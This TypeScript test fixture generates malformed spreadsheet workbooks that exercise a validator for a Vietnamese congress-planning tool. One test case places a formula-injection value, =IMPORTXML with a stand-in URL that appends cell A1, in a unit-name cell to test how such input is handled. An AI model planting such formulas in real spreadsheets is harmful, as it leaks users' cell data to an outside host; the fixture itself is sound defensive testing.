/**
 * A corpus of bad workbooks, generated: every rule's edge, empty and header-only tabs, huge cells,
 * merged cells, every error value, serial and text dates and their near misses, ambiguous numbers,
 * NFD text, TCVN3 text, emoji, apostrophes, whitespace, duplicate headers, thousands of columns,
 * renamed tabs. Each entry is a RawWorkbook as an adapter would hand it to the core.
 */
import type { Cell, RawSheet, RawWorkbook } from '../../src/core/cells';
import { dateCell } from '../../src/core/cells';
import { COLUMNS, INPUT_TABS, type InputTab, TAB } from '../../src/core/workbook/contract';
import { needleTabs } from '../helpers/needles';
import { buildWorkbook, cleanTabs, type PlanTabs, sheetFrom } from '../helpers/workbook-builder';

export interface CorpusCase {
  readonly name: string;
  readonly raw: RawWorkbook;
  /** Finding codes (with `Tab!cell` when given) that must come out, in the core and in Sheets. */
  readonly expected?: readonly string[];
}

const ERRORS = ['#REF!', '#N/A', '#VALUE!', '#DIV/0!', '#NAME?', '#NUM!', '#NULL!', '#ERROR!'];
const NEAR_DATES = [
  '31/02/2025',
  '29/02/2025',
  '00/01/2025',
  '2025-01-05',
  '5/1/25',
  '05/01/2025 08:00',
  '10/13/2025',
  '1/1/1899',
  '1 0/01/2 025',
  '32/01/2025',
  '10/01/0024',
];
/** Real date cells outside the window: a serial 2025 under a date format, five digits, year 0. */
const DATE_CELLS_OUT_OF_WINDOW = ['1905-07-17', '20250-01-05', '0000-01-01'];
const AMBIGUOUS = [
  '1,5',
  '1.5',
  '1.500',
  '1 500',
  '1,234,567',
  '１２３',
  '0x10',
  '1e3',
  '-0',
  '12abc',
  'Infinity',
];

function mapCells(tabs: PlanTabs, change: (value: Cell, header: string) => Cell): PlanTabs {
  const out = {} as PlanTabs;
  for (const tab of INPUT_TABS) {
    out[tab] = tabs[tab].map((row) =>
      Object.fromEntries(Object.entries(row).map(([h, v]) => [h, change(v, h)])),
    );
  }
  return out;
}

function everyColumn(value: Cell): PlanTabs {
  const tabs = cleanTabs();
  return mapCells(tabs, (v, header) => (header === 'Khóa' ? v : value));
}

export function corpus(): CorpusCase[] {
  const cases: CorpusCase[] = [];
  const add = (name: string, raw: RawWorkbook, expected?: readonly string[]) =>
    cases.push({ name, raw, ...(expected ? { expected } : {}) });

  add('no tab at all', { sheets: [] });
  add(
    'header-only tabs',
    buildWorkbook(Object.fromEntries(INPUT_TABS.map((tab) => [tab, []])) as unknown as PlanTabs),
  );
  add('empty tabs, not even a header', { sheets: INPUT_TABS.map((name) => ({ name, rows: [] })) });
  add('a 50.000-character unit name', buildWorkbook(withUnit({ 'Tên đơn vị': 'Đ'.repeat(50_000) })));
  add(
    'merged cells: only the top-left holds the value',
    buildWorkbook(withUnit({ 'Tên đơn vị': '', 'Loại đơn vị': '' }, 2)),
  );
  for (const error of ERRORS) add(`${error} in every cell`, buildWorkbook(everyColumn(error)));
  for (const date of NEAR_DATES)
    add(
      `date near miss ${date}`,
      buildWorkbook(withCongress({ 'Ngày đại hội': date, 'Hạn hoàn thành': date })),
      ['T002 Đại hội!D2', 'T002 Đại hội!J2'],
    );
  for (const iso of DATE_CELLS_OUT_OF_WINDOW)
    add(
      `date cell ${iso} outside the window`,
      buildWorkbook(withCongress({ 'Ngày đại hội': dateCell(iso), 'Hạn hoàn thành': dateCell(iso) })),
      ['T002 Đại hội!D2', 'T002 Đại hội!J2'],
    );
  for (const serial of [45667, 60, 0, -1, 1e7, 45667.75])
    add(`serial date ${serial}`, buildWorkbook(withCongress({ 'Hạn hoàn thành': serial })));
  for (const form of ['10/01/2025', '1/1/2025', '10-01-2025', '10.01.2025'])
    add(`text date ${form}`, buildWorkbook(withCongress({ 'Hạn hoàn thành': form })));
  for (const number of AMBIGUOUS)
    add(
      `ambiguous number ${number}`,
      buildWorkbook(withCongress({ 'Thành viên dự': number, 'Tổng đại biểu': number })),
    );
  add(
    'NFD text everywhere',
    buildWorkbook(
      mapCells(cleanTabs(), (v) => (typeof v === 'string' ? v.normalize('NFD') : v)),
      { rawTabs: nfdHeaders() },
    ),
  );
  add('TCVN3 text in names', buildWorkbook(withUnit({ 'Tên đơn vị': '§¶ng bé x· B×nh L\u00ad' })));
  add(
    'emoji in names and codes',
    buildWorkbook(withUnit({ 'Tên đơn vị': 'Chi bộ 🎉 02', 'Mã đơn vị': 'BL🎉' })),
  );
  add('leading apostrophes', buildWorkbook(withUnit({ 'Số thành viên': "'310", 'Mã đơn vị': "'BL" })));
  add('whitespace-only cells', buildWorkbook(everyColumn(' \u00a0\t ')));
  add('booleans everywhere', buildWorkbook(everyColumn(true)));
  add('dates everywhere', buildWorkbook(everyColumn(dateCell('2025-01-10'))));
  add(
    'huge numbers',
    buildWorkbook(withCongress({ 'Thành viên dự': 1e20, 'Tổng đại biểu': 1e300, 'Số ngày': 1e9 })),
  );
  add(
    'formula text and control characters',
    buildWorkbook(withUnit({ 'Tên đơn vị': '=IMPORTXML("http://x/?"&A1)\u0000\u0007\r\n+84' })),
  );
  add('duplicate headers', buildWorkbook({}, { rawTabs: { [TAB.units]: duplicateHeaders() } }));
  add('thousands of columns', buildWorkbook({}, { rawTabs: { [TAB.congresses]: wide(3000) } }));
  add('a tab renamed with different case', renamed('ĐẠI HỘI  '));
  add('a tab renamed without diacritics', renamed('Dai hoi'));
  add('rows of different lengths', {
    sheets: [{ name: TAB.units, rows: [['Mã đơn vị'], ['A', 'b', 'c', 'd', 'e'], []] }],
  });
  add('a cycle of three units', buildWorkbook(cycle()));
  add('every rule broken at once', buildWorkbook(everything()));
  add(
    'a hidden-looking tab named like an output tab',
    buildWorkbook({}, { extraSheets: [{ name: 'Báo cáo', rows: [['#REF!']] }] }),
  );
  add('null rows', { sheets: [{ name: TAB.units, rows: [[null, null], [null]] }] });
  // Issue 14: two tabs that match one name are reported, never resolved to the first.
  add(
    'two tabs named Đơn vị, in NFC and in NFD',
    buildWorkbook(
      {},
      { extraSheets: [{ name: TAB.units.normalize('NFD'), rows: [['Mã đơn vị'], ['KHÁC']] }] },
    ),
    ['S003 Đơn vị'],
  );
  add(
    'two tabs named Người nhận, one in capitals with a trailing space',
    buildWorkbook({}, { extraSheets: [{ name: 'NGƯỜI NHẬN ', rows: [['Họ tên', 'Email', 'Phạm vi']] }] }),
    ['S003 Người nhận'],
  );
  // Issue 14: Số lượng × Đơn giá near 10^24 (each a valid cell) is refused, never read out in wrong words.
  add(
    'a budget line of 10^12 × 10^12 đ',
    buildWorkbook({
      [TAB.budget]: [
        ...cleanTabs()[TAB.budget],
        {
          'Mã đơn vị': 'BH',
          'Khoản chi': 'TL',
          'Số lượng': 1e12,
          'Số ngày': '',
          'Đơn giá': 1e12,
          'Thành tiền': '',
        },
      ],
    }),
    ['T003 Dự toán!F5'],
  );
  // Issue 14: a code on two rows and a cycle of parents: reported, and no scoped message is built from them.
  add('a broken unit tree with a needle in every unit', buildWorkbook(needleTabs()), [
    'R001 Đơn vị!A8',
    'R003 Đơn vị!D9',
  ]);
  return cases;
}

function withUnit(cells: Record<string, Cell>, index = 1): PlanTabs {
  const tabs = cleanTabs();
  return {
    ...tabs,
    [TAB.units]: tabs[TAB.units].map((row, i) => (i === index ? { ...row, ...cells } : row)),
  };
}

function withCongress(cells: Record<string, Cell>): PlanTabs {
  const tabs = cleanTabs();
  return {
    ...tabs,
    [TAB.congresses]: tabs[TAB.congresses].map((row, i) => (i === 0 ? { ...row, ...cells } : row)),
  };
}

function nfdHeaders(): Partial<Record<InputTab, RawSheet>> {
  const tabs = cleanTabs();
  const out: Partial<Record<InputTab, RawSheet>> = {};
  for (const tab of INPUT_TABS) {
    const sheet = sheetFrom(tab, tabs[tab]);
    out[tab] = {
      name: tab.normalize('NFD'),
      rows: [sheet.rows[0]!.map((h) => String(h).normalize('NFD').toUpperCase()), ...sheet.rows.slice(1)],
    };
  }
  return out;
}

function duplicateHeaders(): RawSheet {
  const headers = (COLUMNS[TAB.units] as readonly { header: string }[]).map((c) => c.header);
  return sheetFrom(TAB.units, cleanTabs()[TAB.units], [...headers, 'MÃ ĐƠN VỊ', 'Email ']);
}

function wide(columns: number): RawSheet {
  const base = sheetFrom(TAB.congresses, cleanTabs()[TAB.congresses]);
  return {
    name: TAB.congresses,
    rows: base.rows.map((row, r) => [
      ...row,
      ...Array.from({ length: columns }, (_, c) => (r === 0 ? `Cột ${c}` : c)),
    ]),
  };
}

function renamed(name: string): RawWorkbook {
  const raw = buildWorkbook();
  return {
    ...raw,
    sheets: raw.sheets.map((sheet) => (sheet.name === TAB.congresses ? { ...sheet, name } : sheet)),
  };
}

function cycle(): PlanTabs {
  const tabs = cleanTabs();
  const units: Record<string, Cell>[] = tabs[TAB.units].map((row) => ({
    ...row,
    'Loại đơn vị': 'Đảng bộ cơ sở',
  }));
  units[0] = { ...units[0]!, 'Đơn vị cấp trên': 'BH' };
  units[3] = { ...units[3]!, 'Đơn vị cấp trên': 'BL' };
  units[1] = { ...units[1]!, 'Đơn vị cấp trên': 'HU' };
  return { ...tabs, [TAB.units]: units };
}

function everything(): PlanTabs {
  const tabs = cleanTabs();
  return {
    ...tabs,
    [TAB.units]: [...tabs[TAB.units], { ...tabs[TAB.units][0]!, 'Đơn vị cấp trên': 'XX', Email: 'a@@b' }],
    [TAB.congresses]: [
      ...tabs[TAB.congresses],
      { ...tabs[TAB.congresses][0]!, 'Tổng đại biểu': 1, 'Số ngày': 9, 'Trạng thái': 'Đã tổ chức' },
    ],
    [TAB.milestones]: tabs[TAB.milestones].map((row) => ({
      ...row,
      'Phụ thuộc': 'CV01; CV02; CV99',
      'Ngày hoàn thành': '01/01/2030',
    })),
    [TAB.budget]: [
      ...tabs[TAB.budget],
      { 'Mã đơn vị': 'BL', 'Khoản chi': 'ZZ', 'Số lượng': -1, 'Đơn giá': 'abc', 'Thành tiền': 1 },
    ],
    [TAB.recipients]: tabs[TAB.recipients].map((row) => ({ ...row, 'Phạm vi': 'XX', 'Định kỳ': 'Không' })),
  };
}
